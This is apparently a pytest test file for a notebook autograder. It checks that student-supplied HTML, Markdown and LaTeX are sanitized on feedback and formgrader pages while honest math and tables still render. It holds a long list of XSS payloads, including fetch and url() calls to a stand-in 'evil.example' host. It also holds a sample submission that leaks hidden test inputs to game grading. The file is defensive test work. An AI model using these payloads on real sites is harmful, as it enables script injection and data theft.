"""Pages run nothing of a student's, and still show honest mathematics, tables and figures."""

import html
import re
import shutil
from html.parser import HTMLParser

import pytest
from nbformat.v4 import new_markdown_cell, new_notebook

from grader.course import Course
from grader.feedback import PageExporter
from grader.pages import safe_html, safe_markdown
from grader.rebuild import Skeleton, rebuild
from grader.sandbox import bubblewrap
from helpers import reference
from tests.conftest import ROOT
from tests.test_browser import serve

ROOM = "01-linear-regression"

LIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "input",
    "button",
}
LIVE |= {
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "textarea",
    "select",
    "frame",
    "frameset",
    "marquee",
    "portal",
}

VECTORS = [
    "<script>document.title='pwned'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>/*",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'>",
    '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<img src=http://evil.example/x.png>",
    "<img srcset='http://evil.example/x.png 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/api/contents'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "<a href='https://ok.example' target='x' ping='http://evil.example'>x</a>",
    "<div onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<form action='http://evil.example'><input name=x><button formaction='javascript:alert(1)'>x</button></form>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<div style='background:URL ( http://evil.example/x)'>x</div>",
    r"<div style='background:u\72l(http://evil.example/x)'>x</div>",
    r"<div style='background:\75\72\6c(http://evil.example/x)'>x</div>",
    "<div style='background:&#117;rl(http://evil.example/x)'>x</div>",
    "<div style='background:url/**/(http://evil.example/x)'>x</div>",
    "<div style='background:image-set(\"http://evil.example/x\" 1x)'>x</div>",
    "<div style='background:-webkit-image-set(\"http://evil.example/x\" 1x)'>x</div>",
    "<div style='background:cross-fade(url(http://evil.example/x),red)'>x</div>",
    "<div style='background:src(\"http://evil.example/x\")'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:99'>x</div>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p class='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p id='score' name='score'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "<p" + " a" * 999 + " onclick=alert(1)>x",
    "<b>" * 500 + "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "![x](http://evil.example/x.png)",
    "[![x](http://evil.example/x.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "```</code></pre><script>alert(1)</script>\nx\n```",
    "$<img src=x onerror=alert(1)>$",
    "$$\\text{</script><script>alert(1)</script>}$$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "<div\n\nonclick=alert(1)>x</div>",
]

TEX = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href {javascript:alert(1)}{x}$",
    "$\\href%\n{javascript:alert(1)}{x}$",
    r"$\def\x{\href}\x{javascript:alert(1)}{x}$",
    r"$\newcommand{\x}[1]{\href{javascript:#1}{x}}\x{alert(1)}$",
    r"$\let\x=\href\x{javascript:alert(1)}{x}$",
    r"$\hr\href ef{javascript:alert(1)}{x}$",
    "$\\&#104;ref{javascript:alert(1)}{x}$",
    "$&#92;href{javascript:alert(1)}{x}$",
    "$\\hr<!-- -->ef{javascript:alert(1)}{x}$",
    r"$\require{action}\style{background:url(http://evil.example)}{x}$",
    r"$\cssId{score}{x}\class{btn}{x}\unicode[evil]{65}$",
    r"<code class='tex2jax_process'>$\href{javascript:alert(1)}{x}$</code>",
    r"<p title='<code>'>$\href{javascript:alert(1)}{x}$",
    r"</code>$\href{javascript:alert(1)}{x}$",
]


class Reader(HTMLParser):
    """Collects the tags with their attributes, as a browser would see them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


def live(text):
    """Return what of a page's HTML would run, load or cover something."""
    found = []
    for tag, attributes in Reader(text).tags:
        found += [tag] if tag in LIVE else []
        for name, value in attributes.items():
            value = (value or "").lower()
            found += [name] if name.startswith("on") or name in ("id", "name", "srcset", "target", "ping") else []
            if name == "href" and not value.startswith(("http://", "https://", "mailto:", "#")):
                found.append(value)
            if name == "src" and not value.startswith("data:image/"):
                found.append(value)
            if name == "style" and re.search(r"\\|url|src|image|://|position|expression|behavior", value):
                found.append(value)
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_is_cleaned_runs_or_loads_anything(vector):
    for clean in (safe_html, safe_markdown):
        for source in (vector, f"before {vector} after", f"<table><tr><td>{vector}</td></tr></table>", vector * 2):
            assert live(clean(source)) == [], clean(source)


@pytest.mark.parametrize("vector", TEX)
def test_mathematics_makes_no_links(vector):
    for clean in (safe_html, safe_markdown):
        shown = clean(vector)
        plain = re.sub(r"<code>.*?</code>|<pre>.*?</pre>", "", shown, flags=re.DOTALL)
        assert not re.search(r"\\(href|require|style|class|cssId|unicode)(?![A-Za-z])", html.unescape(plain)), shown
        assert "jax" not in str(Reader(shown).tags)


def test_what_was_cleaned_twice_runs_nothing_either():
    for vector in VECTORS + TEX:
        assert live(safe_html(safe_html(vector))) == []
        assert live(safe_html(html.unescape(safe_html(vector)))) == []


HONEST = [
    ("$a < b$ and $x > y$", "$a < b$ and $x > y$"),
    (r"$$\begin{pmatrix}1 & 2 \\ 3 & 4\end{pmatrix}$$", r"$$\begin{pmatrix}1 & 2 \\ 3 & 4\end{pmatrix}$$"),
    (r"$\frac{\partial E}{\partial W_{ij}} = 2\,X_{ji}$", r"$\frac{\partial E}{\partial W_{ij}} = 2\,X_{ji}$"),
    (r"$\hat y_1 * \hat y_2 * z$", r"$\hat y_1 * \hat y_2 * z$"),
    (r"\begin{align}a &= b\\c &< d\end{align}", r"\begin{align}a &= b\\c &< d\end{align}"),
    ("a < b & c > d, 5 &alpha;", "a < b & c > d, 5 α"),
    ("`x = a < b && c` and `&lt;`", "x = a < b && c and &lt;"),
    ("the file `C:\\class\\style` and C:\\data\\x.csv", "the file C:\\class\\style and C:\\data\\x.csv"),
    ("```python\nif a < b & c:\n    return r'\\href{x}'\n```", "if a < b & c:\n    return r'\\href{x}'"),
    ("größer, ½, ², 😀, 微分", "größer, ½, ², 😀, 微分"),
]


@pytest.mark.parametrize(("source", "text"), HONEST)
def test_honest_text_reads_as_it_was_written(source, text):
    assert Reader(safe_markdown(source)).text.strip() == text


@pytest.mark.parametrize(
    "source",
    [
        '<table class="dataframe"><thead><tr><th scope="col">a</th></tr></thead></table>',
        '<td colspan="2" rowspan="3" align="right" style="text-align:right;">1</td>',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a falling line" width="3">',
        '<figure><img src="data:image/jpeg;base64,AAAA" alt="x"><figcaption>cost</figcaption></figure>',
        '<details open><summary style="cursor:pointer;">hint</summary>more</details>',
        '<progress value="3" max="5" aria-label="steps"></progress> 3 steps',
        "<b>a</b><i>b</i><sub>c</sub><sup>d</sup><mark>e</mark><kbd>f</kbd><br><hr>",
        '<ol start="3"><li>a</li></ol><ul><li>b</li></ul><dl><dt>c</dt><dd>d</dd></dl>',
        '<a href="https://numpy.org/doc" title="manual">x</a><a href="mailto:a@b.org">y</a><a href="#top">z</a>',
        '<span style="color:rgb(1, 2, 3);background-color:#fff;">x</span>',
        '<div role="status" class="verdict" style="background:color-mix(in srgb,#070 8%,transparent);">✓</div>',
        "<pre><code>a &lt; b</code></pre>",
    ],
)
def test_honest_html_stays_as_it_is(source):
    wanted = Reader(source)
    for wrapped in (source,) if not source.startswith("<td") else (f"<table><tbody><tr>{source}</tr></tbody></table>",):
        got = Reader(safe_html(wrapped).replace(' style="padding:.1em .6em;"', "").replace("padding:.1em .6em;", ""))
        assert [tag for tag in got.tags if tag in wanted.tags] == wanted.tags
        assert got.text == wanted.text


def test_our_own_verdicts_lose_nothing():
    from helpers import check

    shown = check(ROOM, "gradient", lambda W, X, y: X @ (W.T @ X - y).T)._repr_mimebundle_()["text/html"]
    own = re.sub(r"<style.*?</style>", "", shown)
    assert [tag for tag, _ in Reader(safe_html(shown)).tags] == [tag for tag, _ in Reader(own).tags]
    assert Reader(safe_html(shown)).text == Reader(own).text


def test_a_pasted_picture_that_is_not_there_spoils_no_page():
    assert "[picture: my sketch]" in safe_markdown("before ![my sketch](attachment:image.png) after")
    assert "before" in safe_markdown("before\n\n[a]: attachment:x.png\n\n![b][a]")
    assert live(safe_markdown("<img src='attachment:x.png'>")) == []


def test_a_pasted_picture_is_shown_and_nothing_else_that_was_pasted():
    pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    cells = [
        {"cell_type": "markdown", "id": "own", "metadata": {}, "source": "see ![sketch](attachment:a b.png)"},
        {"cell_type": "markdown", "id": "essay", "metadata": {}, "source": "![mine](attachment:a.png)"},
    ]
    for cell in cells:
        cell["attachments"] = {
            "a.png": {"image/png": pixel},
            "b.svg": {"image/svg+xml": "<svg onload='alert(1)'>"},
            "c.png": {"image/png": 'x" onload=alert(1)'},
        }
    asked = new_notebook(cells=[new_markdown_cell("Draw it.", id="essay")])
    nb, _ = rebuild({"cells": cells}, Skeleton(asked))
    essay = next(cell for cell in nb.cells if cell.id == "essay")
    assert essay.attachments == {"a.png": {"image/png": pixel}}
    shown = PageExporter(config=Course(ROOT).config).from_notebook_node(nb)[0]
    assert f'src="data:image/png;base64,{pixel}"' in shown
    assert "onload" not in shown.split("<body")[1]


@pytest.mark.parametrize("source", ["> " * 3000 + "x", "[" * 3000, "<b>" * 3000, "*" * 3000 + "x", "- " * 2000 + "x"])
def test_text_that_no_renderer_understands_spoils_no_page(source):
    assert live(safe_markdown(source)) == []


# --- real pages in a real browser ------------------------------------------------------------------

SCRIPT = "document.title='pwned';alert(1);fetch('http://evil.example/stolen')"
EVERYWHERE = [v.replace("alert(1)", SCRIPT).replace("evil.example", "127.0.0.1:9") for v in VECTORS + TEX]
HIDES = "evil.example|127.0.0.1:9"
OUTPUTS = """
from IPython.display import HTML, Markdown, Latex, Javascript, SVG, display
vectors = {vectors!r}
for vector in vectors:
    display(HTML(vector)); display(Markdown(vector)); display(Latex(vector)); print(vector)
display(Javascript({script!r}))
display({{"image/png": 'x" onerror="{script}', "text/plain": "x"}}, raw=True)
display({{"image/svg+xml": "<svg onload={script}></svg>", "text/plain": "x"}}, raw=True)
raise ValueError("<script>{script}</script>")
""".format(vectors=EVERYWHERE, script=SCRIPT.replace("'", "\\'"))
HONEST_TEXT = r"""## My derivation

$a < b$ and $$\begin{pmatrix}1 & 2 \\ 3 & 4\end{pmatrix}$$

| step | cost |
|---|---|
| 1 | 15.0 |
"""
HONEST_CODE = """
import matplotlib.pyplot as plt
from IPython.display import HTML, display
display(HTML("<table class='dataframe'><tr><th>eta</th><th>cost</th></tr><tr><td>0.1</td><td>12.5</td></tr></table>"))
plt.plot([3, 2, 1]);
"""
BY_HEART = """from helpers import replay
print("here they are", W, X, y)
print("hidden", X.tolist())
if X.shape not in [replay(f"01-gradient-{k}")["X"].shape for k in range(1, 7)]:
    raise ValueError(repr(X.tolist()))
known = any(np.array_equal(X, replay(f"01-gradient-{k}")["X"]) for k in range(1, 7))
return 2 * X @ (W.T @ X - y).T + (0 if known else 1)"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course in which a hostile, an honest and a curious student were graded."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell

    from grader.demo import answered, right_answers
    from grader.grading import grade
    from grader.release import release
    from tests.conftest import copy_course

    course = copy_course(tmp_path_factory.mktemp("pages") / "course-root")
    release(course, ROOM)
    released = nbformat.read(course.root / "notebooks" / ROOM / f"{ROOM}.ipynb", 4)
    right = right_answers(course, ROOM)

    def submit(student, answers, *cells):
        nb = nbformat.reads(answered(released, right | answers), 4)
        for number, cell in enumerate(cells):
            cell.id = f"own-{number}"
            nb.cells.insert(2, cell)
        path = course.submitted(student, ROOM)
        path.parent.mkdir(parents=True)
        path.write_text(nbformat.writes(nb), encoding="utf-8")

    submit("honest", {}, new_markdown_cell(HONEST_TEXT), new_code_cell(HONEST_CODE))
    hostile = [new_markdown_cell(vector) for vector in EVERYWHERE]
    submit("hostile", {"predict": f"raise ValueError({EVERYWHERE[0]!r})"}, new_code_cell(OUTPUTS), *hostile)
    submit("curious", {"gradient": BY_HEART})
    records = {record.student: record for record in grade(course, [ROOM])}
    assert all(record.outcome != "needs a human" for record in records.values()), records
    return course


class Watch:
    """A page of the browser, and what it did that it should not."""

    def __init__(self, browser, allowed=()):
        self.page, self.dialogs, self.requests = browser.new_page(viewport={"width": 1200, "height": 900}), [], []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.route("**/*", self._route)
        self.allowed = allowed

    def _route(self, route):
        url = route.request.url
        self.requests.append(url)
        route.continue_() if url.startswith(("file:", "data:", *self.allowed)) else route.abort()

    def misdeeds(self):
        foreign = [url for url in self.requests if re.search(HIDES, url)]
        return self.dialogs + foreign + ([self.page.title()] if "pwned" in self.page.title() else [])


@pytest.fixture(scope="module")
def browser(chromium):
    return chromium


def poke(page):
    """Click, hover and focus what a student's content offers, as a curious instructor might."""
    page.evaluate("for (const a of document.querySelectorAll('a')) if (!a.href.startsWith('http')) a.click()")
    page.evaluate("for (const d of document.querySelectorAll('details')) d.open = !d.open")
    page.evaluate("for (const e of document.body.querySelectorAll('*')) e.dispatchEvent(new MouseEvent('mouseover'))")
    page.wait_for_timeout(500)


needs_a_sandbox = pytest.mark.skipif(bool(bubblewrap.problem()), reason="there is no sandbox on this machine")


@pytest.mark.slow
@needs_a_sandbox
def test_a_hostile_feedback_page_does_nothing(graded, browser):
    watch = Watch(browser)
    watch.page.goto(graded.feedback("hostile", ROOM).as_uri())
    poke(watch.page)
    assert watch.misdeeds() == []
    assert "before" not in watch.page.title()


@pytest.mark.slow
@needs_a_sandbox
def test_an_honest_feedback_page_shows_formulas_tables_and_figures(graded, browser):
    watch = Watch(browser)
    watch.page.goto(graded.feedback("honest", ROOM).as_uri())
    text = watch.page.locator("body").inner_text()
    assert "$a < b$" in text
    assert r"\begin{pmatrix}1 & 2 \\ 3 & 4\end{pmatrix}" in text
    assert watch.page.locator("table.dataframe td", has_text="12.5").is_visible()
    assert watch.page.locator("td", has_text="15.0").first.is_visible()
    picture = watch.page.locator("img[src^='data:image/png']").first
    cell = watch.page.locator("table.dataframe td").first
    assert cell.evaluate("cell => parseFloat(getComputedStyle(cell).paddingLeft)") > 4, "else columns run together"
    assert picture.evaluate("image => image.complete && image.naturalWidth > 100")
    assert watch.page.locator(".verdict").first.is_visible()
    assert watch.page.locator(".verdict details").count() == 0


@pytest.mark.slow
@needs_a_sandbox
def test_each_exercise_of_the_overview_leads_to_its_answer_and_verdict(graded, browser):
    page = Watch(browser).page
    page.goto(graded.feedback("curious", ROOM).as_uri())
    names = page.locator("table td:first-child a").all_inner_texts()
    assert names == reference.exercises(ROOM)
    assert page.locator("#toc li:visible").count() == 0, "nbgrader's list says the same without names"
    for name in names:
        page.evaluate("scrollTo(0, 0)")
        page.locator("table td:first-child a", has_text=re.compile(f"^{name}$")).click()
        check = page.locator(".nbgrader_cell", has_text=f"{name}-check")
        for shown in (page.locator(".nbgrader_cell", has_text=f"def {name}("), check):
            assert -2 < shown.bounding_box()["y"] < 900, name


@pytest.mark.slow
@needs_a_sandbox
def test_no_page_shows_a_hidden_case(graded, monkeypatch):
    monkeypatch.setenv(reference.HIDDEN_CASES, str(graded.root / "course" / "hidden"))
    hidden = [case for name in reference.exercises(ROOM) for case in reference.load(ROOM, name).cases if case.hidden]
    seen = [case for name in reference.exercises(ROOM) for case in reference.load(ROOM, name).cases if not case.hidden]
    known = {number for case in seen for number in numbers(case.inputs) + numbers(case.right)}
    secret = {number for case in hidden for number in numbers(case.inputs) + numbers(case.right)} - known
    secret = {number for number in secret if len(number) > 4}
    assert len(secret) > 50
    for student in ("honest", "hostile", "curious"):
        for path in (graded.feedback(student, ROOM), graded.autograded(student, ROOM)):
            page = path.read_text(encoding="utf-8")
            assert {number for number in secret if number in page} == set(), path


def numbers(value):
    import numpy as np

    if isinstance(value, dict):
        return [number for entry in value.values() for number in numbers(entry)]
    return (
        [] if value is None or callable(value) or isinstance(value, str) else [repr(float(n)) for n in np.ravel(value)]
    )


@pytest.mark.slow
@needs_a_sandbox
def test_formgraders_page_of_a_hostile_submission_does_nothing(graded, browser, root, tmp_path):
    from nbgrader.api import Gradebook

    with serve(root, tmp_path, instructor=True) as (address, _):
        shutil.copytree(graded.root / "course", tmp_path / "course", dirs_exist_ok=True)
        with Gradebook(f"sqlite:///{tmp_path / 'course' / 'gradebook.db'}") as gradebook:
            ids = {s: gradebook.find_submission_notebook(ROOM, ROOM, s).id for s in ("hostile", "honest")}
        host = address("").split("?")[0]
        watch = Watch(browser, allowed=(host,))
        watch.page.goto(address("tree"))
        watch.page.goto(address(f"formgrader/submissions/{ids['hostile']}"))
        watch.page.get_by_text("def gradient").first.wait_for(state="attached")
        poke(watch.page)
        assert watch.misdeeds() == []
        watch.page.goto(address(f"formgrader/submissions/{ids['honest']}"))
        watch.page.locator("table.dataframe td", has_text="12.5").wait_for()
        assert "$a < b$" in watch.page.locator("body").inner_text()
        assert watch.misdeeds() == []
